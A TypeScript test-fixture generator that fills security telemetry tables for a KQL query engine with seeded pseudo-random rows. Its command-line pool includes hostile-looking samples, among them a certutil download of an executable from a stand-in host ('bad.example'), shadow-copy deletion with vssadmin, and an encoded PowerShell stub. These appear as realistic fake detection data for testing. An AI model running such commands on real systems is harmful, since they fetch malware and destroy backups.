/**
 * Rows for every published table, so that no query of the corpus runs on empty stubs: values follow a column's name and
 * type, keys (devices, accounts, files, messages …) come from small pools so that joins meet.
 */
import type { CatalogTable } from '../../src/kql/index.ts';
import { literalSql, quoteName, duckTypes } from '../../src/kql/dialects/duckdb/literal.ts';
import { ticks } from '../../src/kql/ticks.ts';
import type { KqlType, KqlValue } from '../../src/kql/types.ts';

/** A small generator of pseudo-random numbers (xorshift), equal for equal seeds. */
function dice(seed: number): (below: number) => number {
  let state = seed | 1;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
}

type Roll = (below: number) => number;

const pick = <T>(roll: Roll, from: readonly T[]): T => from[roll(from.length)]!;
const hex = (roll: Roll, length: number) =>
  Array.from({ length }, () => '0123456789abcdef'[roll(16)]).join('');
const pool = (size: number, make: (roll: Roll) => string, seed: number): readonly string[] => {
  const roll = dice(seed);
  return Array.from({ length: size }, () => make(roll));
};

const sha1 = pool(40, (roll) => hex(roll, 40), 11);
const sha256 = pool(40, (roll) => hex(roll, 64), 12);
const md5 = pool(40, (roll) => hex(roll, 32), 13);
const guid = (roll: Roll) =>
  `${hex(roll, 8)}-${hex(roll, 4)}-4${hex(roll, 3)}-a${hex(roll, 3)}-${hex(roll, 12)}`;
const guids = pool(30, guid, 14);
const deviceIds = sha1.slice(0, 25);
const names = [
  'anna',
  'boris',
  'carla',
  'dmitri',
  'elena',
  'svc-backup',
  'administrator',
  'krbtgt',
  'system',
];
const files = [
  'powershell.exe',
  'cmd.exe',
  'rundll32.exe',
  'winword.exe',
  'explorer.exe',
  'mimikatz.exe',
  'svchost.exe',
  'certutil.exe',
  'wscript.exe',
  'lsass.exe',
  'report.docx',
  'payload.dll',
  'chrome.exe',
];
const folders = ['C:\\Windows\\System32', 'C:\\Users\\anna\\Downloads', 'C:\\ProgramData\\Temp', '/usr/bin'];
const commands = [
  'powershell.exe -enc SQBFAFgA',
  'cmd.exe /c whoami',
  'rundll32.exe shell32.dll,Control_RunDLL',
  'certutil -urlcache -f http://bad.example/x.exe x.exe',
  'net user administrator /domain',
  'svchost.exe -k netsvcs',
  'schtasks /create /tn updater',
  'vssadmin delete shadows /all /quiet',
];
const urls = [
  'http://bad.example/x.exe',
  'https://login.example.com/common/oauth2',
  'https://cdn.example.org/a.js',
  'bad.example',
  'ipinfo.io',
];
const addresses = [
  '10.0.0.5',
  '10.0.1.17',
  '192.168.1.20',
  '8.8.8.8',
  '203.0.113.9',
  '198.51.100.77',
  '127.0.0.1',
  'fe80::1',
  '2001:db8::7',
];
const actions = [
  'ProcessCreated',
  'ConnectionSuccess',
  'ConnectionFailed',
  'FileCreated',
  'FileModified',
  'LogonSuccess',
  'LogonFailed',
  'RegistryValueSet',
  'AsrOfficeChildProcessAudited',
  'AsrLsassCredentialTheftBlocked',
  'AntivirusDetection',
  'PowerShellCommand',
  'Add member to role.',
  'Consent to application.',
  'InboundConnectionAccepted',
  'ImageLoaded',
  'UserAccountCreated',
  'NamedPipeEvent',
  'LdapSearch',
  'DnsQueryResponse',
];
const bags = [
  '{"Command":"Get-Process","PipeName":"lsass_pipe","SignatureStatus":"Valid","IsAudit":"true","RuleId":"56a863a9-875e-4185-98a7-b882c64b5ab5","query":"bad.example","ThreatName":"EICAR"}',
  '{"ActorAlias":"anna","ATTACK.":"T1059","TARGET_OBJECT.USER":"boris","Count":3,"List":["a","b"]}',
  '{"OperatingSystem":"Windows11","Browser":"Edge","deviceDetail":{"displayName":"pc1"},"location":{"city":"Bern"}}',
];
const arrays = [
  '["T1059","T1105"]',
  '["ZeroDay"]',
  '[{"IPAddress":"10.0.0.5","SubnetPrefix":24,"AddressType":"Private"},{"IPAddress":"203.0.113.9","SubnetPrefix":24,"AddressType":"Public"}]',
  '[{"type":"DeviceInventoryId","id":"d1"},{"type":"AzureResourceId","id":"/x"}]',
  '[]',
];

/** Rows of the table per fill. */
const generatedRows = 200;

/** Statements that make and fill a table as the store lays it out. */
export function fillTable(table: CatalogTable, now: bigint, rows: number = generatedRows): readonly string[] {
  const real = table.columns.filter((column) => column.aliasOf === undefined);
  const columns = real.map((column) => `${quoteName(column.name)} ${duckTypes[column.type]}`);
  const roll = dice(Array.from(table.name).reduce((sum, letter) => sum * 31 + letter.charCodeAt(0), 7));
  const values = Array.from(
    { length: rows },
    () =>
      `(${real.map((column) => literalSql(column.type, valueFor(column.name, column.type, roll, now))).join(', ')})`,
  );
  return [
    `CREATE TABLE IF NOT EXISTS ${quoteName(table.name)} (${columns.join(', ')})`,
    ...(rows === 0 ? [] : [`INSERT INTO ${quoteName(table.name)} VALUES ${values.join(', ')}`]),
  ];
}

function valueFor(name: string, type: KqlType, roll: Roll, now: bigint): KqlValue {
  switch (type) {
    case 'string':
      return roll(12) === 0 ? '' : textFor(name, roll);
    case 'datetime':
      // Most lie within the last month, some in the last hour, for short windows.
      return roll(10) === 0
        ? null
        : now - BigInt(roll(4) === 0 ? roll(3600) : roll(28 * 86_400)) * ticks.second;
    case 'timespan':
      return BigInt(roll(86_400)) * ticks.second;
    case 'long':
      return roll(10) === 0
        ? null
        : BigInt(/port/i.test(name) ? pick(roll, [22, 80, 443, 445, 3389, 5985, 49_152]) : roll(5000));
    case 'int':
      return roll(10) === 0 ? null : /port/i.test(name) ? pick(roll, [22, 80, 443, 445, 3389]) : roll(300);
    case 'real':
      return roll(10) === 0 ? null : roll(1000) / 100;
    case 'bool':
      return roll(10) === 0 ? null : roll(2) === 1;
    case 'dynamic':
      return roll(10) === 0
        ? null
        : /(s|Tags|Categories|Ids|List)$/.test(name) && !/Fields|Properties/.test(name)
          ? pick(roll, arrays)
          : pick(roll, bags);
    case 'guid':
      return pick(roll, guids);
    case 'decimal':
      return '1.5';
  }
}

function textFor(name: string, roll: Roll): string {
  if (/SHA1/i.test(name)) return pick(roll, sha1);
  if (/SHA256/i.test(name)) return pick(roll, sha256);
  if (/MD5/i.test(name)) return pick(roll, md5);
  if (/^(Target)?DeviceId|MachineId$/.test(name)) return pick(roll, deviceIds);
  if (/DeviceName|HostName|ComputerName|MachineName/i.test(name)) return `pc${roll(25)}.corp.example`;
  if (/Upn|Email|Address$/i.test(name) && /Sender|Recipient|Upn|Mail/i.test(name))
    return `${pick(roll, names)}@${pick(roll, ['example.com', 'bad.example'])}`;
  if (/Domain/i.test(name)) return pick(roll, ['corp', 'example.com', 'bad.example', 'NT AUTHORITY']);
  if (/Sid$/i.test(name)) return `S-1-5-21-1-2-3-${500 + roll(30)}`;
  if (/IP|IPAddress|RemoteIP/i.test(name) && !/Description|Ship|Script/i.test(name))
    return pick(roll, addresses);
  if (/Port$/.test(name)) return String(pick(roll, [80, 443, 3389]));
  if (/Url|Uri/i.test(name)) return pick(roll, urls);
  if (/CommandLine/i.test(name)) return pick(roll, commands);
  if (/FileName|ProcessName|FileType/i.test(name)) return pick(roll, files);
  if (/FolderPath|Path$/i.test(name)) return pick(roll, folders);
  if (/RegistryKey/i.test(name))
    return 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
  if (/RegistryValue/i.test(name)) return pick(roll, ['DisableRealtimeMonitoring', '1', '0', 'Updater']);
  if (/ActionType|Operation/i.test(name)) return pick(roll, actions);
  if (/CveId/i.test(name)) return `CVE-2024-${1000 + roll(40)}`;
  if (/Severity|RiskLevel|Level$/i.test(name))
    return pick(roll, ['Low', 'Medium', 'High', 'Critical', 'Informational']);
  if (/Score/i.test(name)) return (roll(100) / 10).toFixed(1);
  if (/Country|Location/i.test(name)) return pick(roll, ['CH', 'US', 'RU', 'DE']);
  if (/OSPlatform/i.test(name))
    return pick(roll, ['Windows11', 'Windows10', 'WindowsServer2019', 'Linux', 'macOS']);
  if (/Vendor|Publisher|Signer|Issuer/i.test(name))
    return pick(roll, ['microsoft', 'google', 'adobe', 'Unknown Ltd']);
  if (/SoftwareName|Application|AppName|ApplicationName/i.test(name))
    return pick(roll, ['chrome', 'office', 'Microsoft Teams', 'openssl']);
  if (/Version/i.test(name)) return `${roll(20)}.${roll(10)}.${roll(1000)}`;
  if (/Account|User|Name$/i.test(name)) return pick(roll, names);
  if (/LogonType/i.test(name)) return pick(roll, ['Interactive', 'RemoteInteractive', 'Network']);
  if (/Protocol/i.test(name)) return pick(roll, ['Tcp', 'Udp', 'Kerberos', 'NTLM']);
  if (/AdditionalFields|Properties|RawEventData/i.test(name)) return pick(roll, bags);
  if (/Id$/.test(name)) return pick(roll, guids);
  if (/Time|Date/i.test(name)) return '2024-05-01T08:00:00Z';
  if (/AttackTechniques|Category|Categories/i.test(name))
    return pick(roll, ['["T1059"]', 'Malware', 'Persistence']);
  return pick(roll, [
    'Success',
    'Failure',
    'Enabled',
    'Blocked',
    'unknown',
    'a b-c_d',
    'SharePoint',
    'Phish',
  ]);
}
